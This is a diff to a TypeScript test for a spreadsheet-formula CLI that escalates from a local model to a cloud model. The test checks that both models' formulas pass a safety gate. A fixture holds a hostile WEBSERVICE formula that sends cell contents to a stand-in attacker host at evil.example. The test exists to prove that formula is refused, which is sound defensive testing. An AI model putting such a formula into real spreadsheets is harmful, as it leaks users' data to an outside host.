@@ -4,6 +4,7 @@ import os from "node:os";
 import path from "node:path";
 import { mkdtemp } from "node:fs/promises";
 import { OllamaProtocolServer } from "../support/ollama-protocol-server";
+import { OpenAiProtocolServer } from "../support/openai-protocol-server";
 import { runCli } from "../support/processes";
 
 /** Sales: Region, Date, Product, Revenue; what the README's example asks about. */
@@ -110,6 +111,95 @@ describe("npx excel-slm formula", () => {
     expect(json).toMatchObject({ ok: false, status: "no-verified-formula", verified: false, formula: null });
     expect(json.error.message).toMatch(/WEBSERVICE is not allowed/);
   });
+
+  it("escalates to the cloud model when no local formula is verified, and proves the cloud's formula too", async () => {
+    const key = "sk-cli-formula-escalation-test";
+    const cloud = await OpenAiProtocolServer.start({ apiKey: key, models: ["gpt-4o-mini"] });
+    const home = await mkdtemp(path.join(os.tmpdir(), "slm-formula-home-"));
+    try {
+      const evil = {
+        content: JSON.stringify({ kind: "free_form", formula: '=WEBSERVICE("http://evil.example/?d="&A2)' }),
+      };
+      const cloudArgs = ["--cloud", "openai", "--cloud-url", `${cloud.url}/v1`, "--escalate", "auto"];
+      const env = { SLM_CLOUD_API_KEY: key, SLM_HOME: home };
+
+      ollama.enqueue(evil, evil, evil);
+      cloud.enqueue({ value: { answer: westIn2024 } });
+      const escalated = await runCli(
+        [
+          "formula",
+          sales.file,
+          "--sheet",
+          "Sales",
+          "--ask",
+          "West revenue in 2024",
+          "--ollama",
+          ollama.url,
+          "--json",
+          ...cloudArgs,
+        ],
+        env,
+      );
+      expect(escalated.code, escalated.stderr).toBe(0);
+      expect(JSON.parse(escalated.stdout)).toMatchObject({
+        status: "verified",
+        value: sales.westRevenue2024,
+        source: "cloud",
+        model: expect.stringMatching(/^gpt-4o-mini/),
+        escalation: { route: "cloud", trigger: "no-verified-formula" },
+      });
+
+      // The cloud's formula goes through the same safety gate: a dangerous one is not offered.
+      ollama.enqueue(evil, evil, evil);
+      cloud.enqueue({ value: { answer: JSON.parse(evil.content) as unknown } });
+      const refused = await runCli(
+        [
+          "formula",
+          sales.file,
+          "--sheet",
+          "Sales",
+          "--ask",
+          "West revenue in 2024",
+          "--ollama",
+          ollama.url,
+          "--json",
+          ...cloudArgs,
+        ],
+        env,
+      );
+      expect(refused.code).toBe(1);
+      expect(JSON.parse(refused.stdout)).toMatchObject({
+        status: "no-verified-formula",
+        formula: null,
+        source: "cloud",
+      });
+      expect(JSON.parse(refused.stdout).error.message).toMatch(/cloud model's formula did not pass/);
+
+      // Under "never" the cloud is not asked, and the output says why.
+      ollama.enqueue(evil, evil, evil);
+      const local = await runCli(
+        [
+          "formula",
+          sales.file,
+          "--sheet",
+          "Sales",
+          "--ask",
+          "West revenue in 2024",
+          "--ollama",
+          ollama.url,
+          "--json",
+          ...cloudArgs.slice(0, 4),
+          "--escalate",
+          "never",
+        ],
+        env,
+      );
+      expect(JSON.parse(local.stdout)).toMatchObject({ source: "local", escalation: { route: "local" } });
+      expect(cloud.requests.filter((request) => request.path.endsWith("/chat/completions"))).toHaveLength(2);
+    } finally {
+      await cloud.close();
+    }
+  }, 60_000);
 
   it("writes a verified formula into an empty cell of --out, and refuses a non-empty one", async () => {
     ollama.enqueue({ content: JSON.stringify(westIn2024) });
